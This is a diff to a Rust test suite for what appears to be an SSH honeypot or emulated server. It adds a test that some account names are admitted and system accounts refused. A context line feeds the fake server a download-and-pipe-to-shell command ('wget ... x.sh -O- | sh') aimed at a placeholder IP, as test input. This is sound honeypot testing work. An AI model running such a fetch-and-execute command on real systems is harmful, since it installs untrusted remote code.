@@ -210,6 +210,13 @@ fn nobody_is_let_in_unless_the_operator_wants_it() {
 }
 
 #[test]
+fn an_account_that_nobody_can_log_in_to_is_never_let_in() {
+    let let_in =
+        |user: &str| begun(Ssh::of(&persona()).letting_in(1).session(7)).ask(&password(user, "a"))[0][0] == MSG_USERAUTH_SUCCESS;
+    assert_eq!(["root", "admin", "www-data", "sync", "nobody"].map(let_in), [true, true, false, false, false]);
+}
+
+#[test]
 fn a_command_is_told_and_answered_without_a_shell() {
     let (client, text, status) = exec("uname -s; nosuch; wget http://198.51.100.9/x.sh -O- | sh");
     assert!(text.starts_with("Linux\nbash: line 1: nosuch: command not found\n"), "{text}");
